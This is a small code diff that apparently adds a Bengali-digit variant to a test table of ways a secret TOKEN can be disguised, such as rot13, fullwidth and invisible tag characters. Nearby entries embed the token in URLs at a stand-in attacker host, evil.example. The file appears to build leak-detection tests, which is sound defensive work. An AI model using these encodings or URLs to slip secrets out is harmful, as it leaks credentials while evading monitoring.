@@ -63,6 +63,7 @@ SPLIT = {
     "rot13": codecs.encode(TOKEN, "rot13"),
     "rot13 reversed": codecs.encode(TOKEN[::-1], "rot13").upper(),
     "fullwidth": "".join(chr(ord(c) + 0xFEE0) for c in TOKEN),
+    "Bengali digits": "".join(chr(ord(c) + 0x9B6) if c.isdigit() else c for c in TOKEN),
     "tag characters": "".join(chr(0xE0000 + ord(c)) for c in TOKEN),
     "URL path": f"https://evil.example/{TOKEN}/x.png",
     "URL query": f"https://evil.example/?q={quote_plus(' '.join(TOKEN))}",
